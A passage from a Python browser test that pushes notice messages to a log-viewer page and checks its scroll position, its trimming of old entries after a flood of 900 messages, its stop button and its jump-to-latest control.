        server.push("one", "notice", text=f"more {number}")
    page.wait_for("document.querySelector('#log').innerText.includes('more 19')")
    assert abs(page.evaluate("document.querySelector('#scroller').scrollTop") - place) < 300
    for number in range(900):  # what is read goes out of the document only when it is out of sight
        server.push("one", "notice", text=f"flood {number}")
    server.push("one", "turn_started", turn=9, text="x", files=[], at="")
    page.wait_for("!document.querySelector('#stop').hidden")
    assert page.evaluate("document.querySelectorAll('#log > div').length") <= 520
    page.click("#latest")
    page.wait_for(at_end)
